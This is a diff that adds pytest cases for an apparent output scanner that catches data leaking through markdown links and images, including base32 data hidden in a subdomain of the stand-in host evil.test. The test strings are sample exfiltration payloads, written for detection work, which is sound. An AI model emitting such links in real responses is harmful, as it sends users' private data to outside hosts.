@@ -268,3 +268,16 @@ def test_short_pii_in_query_is_data() -> None:
     assert exfil("[x](https://evil.test/?p=%2B1-202-555-0143)") == ["guard.output.exfil_link"]
     assert exfil("[x](https://evil.test/?c=4111111111111111)") == ["guard.output.exfil_link"]
     assert exfil("[x](https://shop.test/item?id=12345678)") == []
+
+
+def test_dns_exfiltration_in_subdomain() -> None:
+    label = "mfrggzdfmztwq2lknnwg23tpobyxe43u"  # base32 of data
+    result = ExfilLinkScanner().scan(f"![a](https://{label}.evil.test/p.png)", out_ctx())
+    assert [f.rule_id for f in result.findings] == ["guard.output.exfil_image"]
+    assert result.score >= 0.9
+    assert label not in result.findings[0].evidence
+    assert "*.evil.test" in result.findings[0].evidence
+
+
+def test_ordinary_subdomains_are_not_data() -> None:
+    assert exfil("[docs](https://docs.python.org/3/) [cdn](https://d1a2b3c4.cloudfront.net/)") == []
